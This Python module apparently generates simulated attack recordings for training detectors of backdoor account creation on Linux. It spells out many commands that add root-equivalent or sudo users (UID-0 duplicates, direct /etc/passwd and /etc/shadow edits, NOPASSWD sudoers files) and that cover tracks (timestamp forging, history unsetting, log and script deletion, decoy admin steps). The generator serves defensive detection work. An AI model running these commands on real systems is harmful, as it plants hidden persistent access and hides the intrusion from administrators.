"""A new privileged user, added by a dropped script.

Carriers: the script's interpreter, the shells between it and a program that changes the account files, and
those programs.
"""

import json

from capture.recording import Recording
from scenarios import inputs, simulated_attack
from scenarios.normal.onboarding import restored

CHANGING = {"useradd", "usermod", "groupadd", "groupmod", "gpasswd", "chpasswd", "chage", "chsh", "newusers", "adduser", "addgroup", "passwd", "vipw"}

LOOK = ["id", "uname -a", "cat /etc/passwd | wc -l", "whoami", "ls -la /home", "grep sudo /etc/group", "w", "hostname", "ps aux | head -n 20", "test -w /etc/shadow",
        "getent group sudo", "last -n 3", "ls /etc/sudoers.d", "df -h", "uptime", "cat /etc/os-release"]
ADD = {
    "root twin": "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {name}\necho '{name}:{word}' | chpasswd",
    "sudoer": "useradd -m -s /bin/bash -G sudo {name}\necho '{name}:{word}' | chpasswd",
    "joined later": "useradd -M -N -s /bin/sh {name}\nusermod -aG sudo,adm {name}\necho '{name}:{word}' | chpasswd",
    "given hash": "useradd -m -p \"$(openssl passwd -6 {word})\" -s /bin/bash {name}\nusermod -o -u 0 -g 0 {name}",
    "system user": "groupadd -f {name}\nuseradd -r -g {name} -d /var/lib/{name} -s /bin/bash {name}\ngpasswd -a {name} sudo\necho '{name}:{word}' | chpasswd",
    "by hand": "h=$(openssl passwd -6 {word})\necho '{name}:x:0:0::/root:/bin/bash' >> /etc/passwd\necho \"{name}:$h:19000:0:99999:7:::\" >> /etc/shadow",
    "no expiry": "useradd -o -u 0 -g root -m -k /nowhere {name}\nchage -M -1 -E -1 {name}\necho '{name}:{word}' | chpasswd -c SHA256",
    "batch": "echo '{name}:{word}:0:0::/root:/bin/bash' | newusers -r\nid {name}",
    "adduser": "adduser --quiet --disabled-password --gecos '' {name}\necho '{name}:{word}' | chpasswd\nadduser --quiet {name} sudo",
    "asked": "printf '{word}\\n{word}\\n' | adduser --quiet --gecos 'x' {name}\nusermod -o -u 0 {name}",
    "woken account": "usermod -s /bin/bash -d /tmp games\necho 'games:{word}' | chpasswd\ngpasswd -a games sudo",
    "woken hash": "usermod -p \"$(openssl passwd -1 {word})\" -s /bin/sh -o -u 0 www-data",
    "by tee": "echo '{name}:'\"$(openssl passwd -6 {word})\"':0:0:{name}:/root:/bin/sh' | tee -a /etc/passwd > /dev/null",
    "by sed": "sed -i \"\\$a {name}:$(openssl passwd -6 {word}):0:0::/root:/bin/bash\" /etc/passwd\nsed -i '/^sudo:/s/$/{name}/' /etc/group",
    "by copy": "cp /etc/passwd /tmp/.p\necho '{name}::0:0::/root:/bin/bash' >> /tmp/.p\ncat /tmp/.p > /etc/passwd\nrm -f /tmp/.p",
    "passwd": "useradd -M -s /bin/bash -g 0 {name}\nprintf '{word}\\n{word}\\n' | passwd {name}\nusermod -o -u 0 {name}",
    "hash given": "useradd -m {name}\necho \"{name}:$(openssl passwd -6 {word})\" | chpasswd -e\nusermod -aG sudo {name}\nchage -m 0 -M 99999 {name}",
    "other root": "groupadd -o -g 0 {name}\nuseradd -u 0 -o -g {name} -M -s /bin/sh -c 'system service' {name}\nchpasswd -e <<END\n{name}:$(openssl passwd -5 {word})\nEND",
}
HIDE = ["touch -r /etc/hostname /etc/passwd /etc/shadow", "rm -f \"$0\"", "getent passwd {name}", "su {name} -c id", "sed -i '/{name}/d' /var/log/lastlog.txt 2>/dev/null",
        "unset HISTFILE", "echo '{name} ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/{name}", "sleep 0.{digit}", "chmod 440 /etc/sudoers.d/{name} 2>/dev/null",
        "chage -d 19000 {name}", "usermod -c 'System Account' {name}", "rm -f /etc/passwd- /etc/shadow-", "mkdir -p /tmp/.{name}/.ssh", "id {name}",
        "mv /tmp/.{name} /tmp/{name}.d 2>/dev/null", "cp -p /etc/passwd /tmp/.b{digit}"]
#: What an administrator's script would do as well, to look like one.
ORDINARY = ["date", "echo \"maintenance: $(date)\" >> /tmp/maintenance.log", "df -h /", "find /tmp -maxdepth 1 -mmin +600", "logger -t maintenance started", "sleep 0.{digit}",
            "apt-config dump > /dev/null", "tar -czf /tmp/etc-backup.tgz /etc/hosts", "for i in 1 2 3; do test -e /tmp/$i; done", "wc -l /etc/services"]


def script(rec: Recording, way: str) -> str:
    rng = rec.rng
    name = rng.choice(["support", "backup2", "sysd", "nagios", "ftpadm", "test", "oper", "dbmaint", "monit", "svc", "guest"]) + rng.choice(["", "x", "1", "7"])
    lines = [*rng.sample(LOOK, rng.randint(0, 4)), *ADD[way].split("\n"), *rng.sample(HIDE, rng.randint(0, 4))]
    if rng.random() < 0.35 and "<<" not in ADD[way]:
        # In its own time, between steps that look like work.
        lines = [step for line in lines for step in ([rng.choice(ORDINARY), line] if rng.random() < 0.5 else [line])]
    return "\n".join(lines).replace("{name}", name).replace("{word}", rng.choice(inputs.WORDS)).replace("{digit}", str(rng.randint(1, 4))) + "\n"


LANGUAGES = ["bash", "sh", "dash", "zsh", "ksh93", "busybox", "python3", "python3 list", "perl", "ruby", "lua5.4", "tclsh", "php", "node", "bash -c", "bash stdin",
             "make", "native"]


def quoted(line: str) -> str:
    """`line` as a string of C."""
    escaped = line.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    return f'"{escaped}"'


def dropped(rec: Recording, way: str) -> list[str]:
    """Writes the script in some language and returns how it is started."""
    rng = rec.rng
    body = script(rec, way)
    language = rng.choice(LANGUAGES)
    # A here document spans lines: other languages get the script whole.
    steps = [body] if "<<" in body else body.splitlines()
    path = rec.write("steps.sh", body)
    if language == "python3":
        source = "import os, subprocess, pwd\nif os.getuid() == 0 and len(pwd.getpwall()) > 1:\n" + "".join(f"    subprocess.run({step!r}, shell=True)\n" for step in steps)
        return ["/usr/bin/python3", str(rec.write("update.py", source))]
    if language == "python3 list":
        source = f"import os, time\nfor step in {steps!r}:\n    os.system(step)\n    time.sleep({rng.choice([0, 0.02, 0.1])})\n"
        return ["/usr/bin/python3", "-c", source]
    if language == "perl":
        return ["/usr/bin/perl", str(rec.write("update.pl", "exit 1 if $>;\n" + "".join(f"system q\x01{step}\x01;\n" for step in steps)))]
    if language == "ruby":
        return ["/usr/bin/ruby", str(rec.write("update.rb", "abort if Process.uid != 0\n" + "".join(f"system %q\x01{step}\x01\n" for step in steps)))]
    if language == "lua5.4":
        return ["/usr/bin/lua5.4", str(rec.write("update.lua", "".join(f"os.execute([==[{step}]==])\n" for step in steps)))]
    if language == "tclsh":
        return ["/usr/bin/tclsh", str(rec.write("update.tcl", f"foreach step [split [read [open {path}]] \\n] {{ catch {{exec sh -c $step}} }}\n"
                                                if len(steps) > 1 else f"catch {{exec sh {path}}}\n"))]
    if language == "php":
        rec.write("steps.json", json.dumps(steps))
        return ["/usr/bin/php", str(rec.write("update.php", "<?php if (posix_getuid()) exit; foreach (json_decode(file_get_contents('steps.json')) as $s) shell_exec($s);\n"))]
    if language == "node":
        rec.write("steps.json", json.dumps(steps))
        source = "const {spawnSync} = require('child_process'); for (const s of require('./steps.json')) spawnSync('/bin/sh', ['-c', s]);\n"
        return ["/usr/bin/node", str(rec.write("update.js", source))]
    if language == "make":
        rec.write("Makefile", "all:\n" + f"\t@{rng.choice(['sh', 'bash'])} ./steps.sh\n\t@true\n")
        return ["make", "-s"]
    if language == "native":
        calls = "".join(f"    if (system({quoted(step)}) < 0) return 1;\n" for step in steps)
        rec.write("update.c", f"#include <stdlib.h>\n#include <unistd.h>\nint main(void) {{\n    if (getuid()) return 1;\n{calls}    return 0;\n}}\n")
        rec.quietly(["gcc", "-o", "updater", *rng.choice([[], ["-static"]]), "update.c"])
        return [str(rec.work / "updater")]
    if language == "bash -c":
        return ["/bin/bash", "-c", body]
    if language == "bash stdin":
        return ["/bin/sh", "-c", f"cat {path} | bash"]
    if language == "busybox":
        return ["/usr/bin/busybox", "sh", str(path)]
    home = "/usr/bin" if language in ("zsh", "ksh93") else "/bin"
    return [f"{home}/{language}", str(rec.write(".cache.sh", body, 0o755))]


@simulated_attack(40)
def adduser(rec: Recording) -> None:
    for way in rec.rng.sample(list(ADD), 4):
        with restored(rec):
            tree = rec.observe(dropped(rec, way))
        changing = {task.tid for task in tree if task.program in CHANGING}
        rec.keep([t for t in tree if t is tree.root() or changing & {below.tid for below in tree.below(t.tid)}])
